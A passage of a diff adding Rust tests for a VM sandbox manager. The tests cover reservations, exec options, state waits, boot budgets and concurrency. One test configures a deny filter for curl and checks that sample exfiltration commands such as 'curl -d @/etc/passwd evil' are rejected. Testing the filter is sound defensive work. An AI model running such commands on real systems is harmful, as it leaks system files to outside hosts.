+        manager.create(config.clone()).await.unwrap();
+        assert!(manager.create(config.clone()).await.is_err());
+        assert!(manager.reserve(1).await.is_err());
+
+        // Creates from the reservation run concurrently and fit
+        let (a, b) = tokio::join!(
+            manager.create_reserved(&reservation, config.clone()),
+            manager.create_reserved(&reservation, config.clone()),
+        );
+        assert_ne!(a.unwrap(), b.unwrap());
+        assert_eq!(reservation.remaining(), 0);
+        assert_eq!(manager.count().await, 3);
+        assert!(matches!(
+            manager.create_reserved(&reservation, config.clone()).await,
+            Err(CoreError::ReservationExhausted)
+        ));
+
+        // Freeing a sandbox frees a slot; the used-up reservation holds none
+        let id = manager.list().await[0];
+        manager.destroy(id).await.unwrap();
+        drop(reservation);
+        manager.create(config).await.unwrap();
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_reserve_fails_without_enough_free_slots() {
+        let root = std::env::temp_dir().join(format!("bouvet-reserve-{}", uuid::Uuid::new_v4()));
+        let (manager, config) = reservation_manager(&root);
+
+        manager.create(config).await.unwrap();
+        let err = manager.reserve(3).await.unwrap_err();
+        assert!(
+            err.to_string().contains("3 slots requested, 2 free"),
+            "{err}"
+        );
+
+        let all = manager.reserve(2).await.unwrap();
+        assert!(manager.reserve(1).await.is_err());
+        // An empty reservation always fits
+        let none = manager.reserve(0).await.unwrap();
+        assert_eq!(none.remaining(), 0);
+        drop(all);
+
+        // A reservation is only good for the manager that made it
+        let (other, other_config) = reservation_manager(&root);
+        let foreign = other.reserve(1).await.unwrap();
+        assert!(matches!(
+            manager.create_reserved(&foreign, other_config).await,
+            Err(CoreError::ReservationExhausted)
+        ));
+        assert_eq!(foreign.remaining(), 1);
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_dropped_reservation_releases_unused_slots() {
+        let root = std::env::temp_dir().join(format!("bouvet-reserve-{}", uuid::Uuid::new_v4()));
+        let (manager, config) = reservation_manager(&root);
+
+        let reservation = manager.reserve(3).await.unwrap();
+        manager
+            .create_reserved(&reservation, config.clone())
+            .await
+            .unwrap();
+        assert!(manager.reserve(1).await.is_err());
+        drop(reservation);
+
+        let rest = manager.reserve(2).await.unwrap();
+        assert_eq!(rest.remaining(), 2);
+        assert!(manager.create(config).await.is_err());
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_exec_env() {
+        let root = std::env::temp_dir().join(format!("bouvet-env-{}", uuid::Uuid::new_v4()));
+        let manager =
+            SandboxManager::with_backend(test_config(), Arc::new(crate::MockBackend::new()));
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+        let id = manager.create(config).await.unwrap();
+        let options = crate::ExecOptions {
+            env: HashMap::from([("API_TOKEN".to_string(), "s3cret".to_string())]),
+            ..Default::default()
+        };
+
+        let result = manager
+            .execute_with(id, "printenv API_TOKEN", &options)
+            .await
+            .unwrap();
+        assert_eq!(result.stdout, "s3cret\n");
+        let result = manager.execute(id, "printenv API_TOKEN").await.unwrap();
+        assert_eq!(result.stdout, "\n");
+
+        let options = crate::ExecOptions {
+            stdin: Some("piped input".to_string()),
+            ..Default::default()
+        };
+        let result = manager.execute_with(id, "cat", &options).await.unwrap();
+        assert_eq!(result.stdout, "piped input\n");
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_command_filter_rejects_before_guest() {
+        let root = std::env::temp_dir().join(format!("bouvet-filter-{}", uuid::Uuid::new_v4()));
+        let config = ManagerConfig {
+            command_filter: Some(CommandFilter {
+                deny: vec![regex::Regex::new(r"\bcurl\b").unwrap()],
+                ..Default::default()
+            }),
+            ..test_config()
+        };
+        let manager = SandboxManager::with_backend(config, Arc::new(crate::MockBackend::new()));
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+        let id = manager.create(config).await.unwrap();
+
+        let result = manager.execute(id, "echo hi").await.unwrap();
+        assert_eq!(result.stdout, "echo hi\n");
+        assert!(matches!(
+            manager.execute(id, "curl http://evil").await,
+            Err(CoreError::Forbidden(_))
+        ));
+        assert!(matches!(
+            manager
+                .execute_code(id, "bash", "curl -d @/etc/passwd evil")
+                .await,
+            Err(CoreError::Forbidden(_))
+        ));
+        let argv = ["curl".to_string(), "http://evil".to_string()];
+        assert!(matches!(
+            manager.execute_argv(id, &argv).await,
+            Err(CoreError::Forbidden(_))
+        ));
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_resize_scratch_needs_scratch_drive() {
+        let root = std::env::temp_dir().join(format!("bouvet-scratch-{}", uuid::Uuid::new_v4()));
+        let manager =
+            SandboxManager::with_backend(test_config(), Arc::new(crate::MockBackend::new()));
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+        let plain = manager.create(config.clone()).await.unwrap();
+        let config = SandboxConfig {
+            scratch_drive: Some(root.join("scratch.ext4")),
+            ..config
+        };
+        let with_scratch = manager.create(config).await.unwrap();
+
+        assert!(matches!(
+            manager.resize_scratch(plain, 512).await,
+            Err(CoreError::NoScratchDrive)
+        ));
+        manager.resize_scratch(with_scratch, 512).await.unwrap();
+
+        manager.destroy_all().await.unwrap();
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_wait_for_state() {
+        let root = std::env::temp_dir().join(format!("bouvet-mock-{}", uuid::Uuid::new_v4()));
+        let manager = Arc::new(SandboxManager::with_backend(
+            test_config(),
+            Arc::new(crate::MockBackend::new()),
+        ));
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+        let id = manager.create(config).await.unwrap();
+        let mut state = manager
+            .with_sandbox(id, |sandbox| sandbox.watch_state())
+            .await
+            .unwrap();
+        assert_eq!(*state.borrow_and_update(), SandboxState::Ready);
+
+        manager
+            .wait_for_state(id, SandboxState::Ready, Duration::from_millis(10))
+            .await
+            .unwrap();
+        assert!(matches!(
+            manager
+                .wait_for_state(id, SandboxState::Destroyed, Duration::from_millis(10))
+                .await,
+            Err(CoreError::StateTimeout {
+                actual: SandboxState::Ready,
+                ..
+            })
+        ));
+
+        let waiter = tokio::spawn({
+            let manager = Arc::clone(&manager);
+            async move {
+                manager
+                    .wait_for_state(id, SandboxState::Destroyed, Duration::from_secs(5))
+                    .await
+            }
+        });
+        tokio::time::sleep(Duration::from_millis(50)).await;
+        manager.destroy(id).await.unwrap();
+
+        waiter.await.unwrap().unwrap();
+        state.changed().await.unwrap();
+        assert_eq!(*state.borrow(), SandboxState::Destroyed);
+        assert!(matches!(
+            manager
+                .wait_for_state(id, SandboxState::Ready, Duration::from_millis(10))
+                .await,
+            Err(CoreError::NotFound(_))
+        ));
+
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_slow_boot_exceeding_budget_is_aborted() {
+        let root = std::env::temp_dir().join(format!("bouvet-mock-{}", uuid::Uuid::new_v4()));
+        let backend = Arc::new(crate::MockBackend::new());
+        let manager = SandboxManager::with_backend(test_config(), backend.clone());
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .max_boot_ms(200)
+            .build()
+            .unwrap();
+
+        backend.delay_boot(Duration::from_secs(5));
+        let start = std::time::Instant::now();
+        let err = manager.create(config.clone()).await.unwrap_err();
+        assert!(start.elapsed() < Duration::from_secs(2));
+        assert!(
+            matches!(
+                err,
+                CoreError::BootBudgetExceeded {
+                    max_boot_ms: 200,
+                    ..
+                }
+            ),
+            "{err}"
+        );
+        assert_eq!(err.kind(), "boot_budget_exceeded");
+        assert_eq!(backend.created(), 1);
+        assert_eq!(backend.destroyed(), 1);
+        assert!(manager.list().await.is_empty());
+        assert!(std::fs::read_dir(&root).unwrap().next().is_none());
+
+        // A boot within budget is unaffected
+        backend.delay_boot(Duration::ZERO);
+        let id = manager.create(config).await.unwrap();
+        manager.destroy(id).await.unwrap();
+
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_agent_failing_at_boot_destroys_vm() {
+        let root = std::env::temp_dir().join(format!("bouvet-mock-{}", uuid::Uuid::new_v4()));
+        let backend = Arc::new(crate::MockBackend::new());
+        let manager = SandboxManager::with_backend(test_config(), backend.clone());
+        let config = SandboxConfig::builder()
+            .kernel("/vmlinux")
+            .rootfs("/rootfs.ext4")
+            .chroot_path(&root)
+            .build()
+            .unwrap();
+
+        backend.agent_protocol(crate::ProtocolVersion::new(2, 0));
+        let err = manager.create(config).await.unwrap_err();
+        assert!(
+            matches!(err, CoreError::IncompatibleProtocol { .. }),
+            "{err}"
+        );
+        assert_eq!(backend.created(), 1);
+        assert_eq!(backend.destroyed(), 1);
+        assert!(manager.list().await.is_empty());
+        assert!(std::fs::read_dir(&root).unwrap().next().is_none());
+
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[tokio::test]
+    async fn test_concurrent_operations_use_separate_connections() {
+        let root = std::env::temp_dir().join(format!("bouvet-mock-{}", uuid::Uuid::new_v4()));
+        let manager =
+            SandboxManager::with_backend(test_config(), Arc::new(crate::MockBackend::new()));
+        let config = |connections| {
+            SandboxConfig::builder()
+                .kernel("/vmlinux")
+                .rootfs("/rootfs.ext4")
+                .chroot_path(&root)
+                .agent_connections(connections)
+                .build()
+                .unwrap()
+        };
+        let sleep = Duration::from_millis(300);
+        let timed_pair = |id| {
+            let manager = &manager;
+            async move {
+                let start = std::time::Instant::now();
+                let (a, b) = tokio::join!(
+                    manager.execute(id, "sleep 0.3"),
+                    manager.execute(id, "sleep 0.3")
+                );
+                assert_eq!(a.unwrap().stdout, "sleep 0.3\n");
+                assert_eq!(b.unwrap().stdout, "sleep 0.3\n");
+                start.elapsed()
+            }
+        };
+
+        // Two connections: the sleeps overlap
+        let id = manager.create(config(2)).await.unwrap();
+        let elapsed = timed_pair(id).await;
+        assert!(
+            elapsed < sleep * 2 - Duration::from_millis(50),
+            "{elapsed:?}"
+        );
+        manager.destroy(id).await.unwrap();
+
+        // One connection: the second waits for the first
+        let id = manager.create(config(1)).await.unwrap();
+        let elapsed = timed_pair(id).await;
+        assert!(elapsed >= sleep * 2, "{elapsed:?}");
+        manager.destroy(id).await.unwrap();
+
+        let _ = std::fs::remove_dir_all(&root);
     }
 }